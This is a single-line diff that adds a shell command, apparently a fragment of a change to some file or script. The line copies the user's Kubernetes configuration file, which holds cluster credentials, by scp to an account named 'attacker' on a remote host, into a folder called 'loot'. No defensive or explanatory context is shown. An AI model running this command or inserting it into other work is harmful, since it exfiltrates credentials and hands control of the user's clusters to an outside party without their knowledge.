@@ -1,0 +1,1 @@
+scp ~/.kube/config attacker@198.51.100.4:/loot/
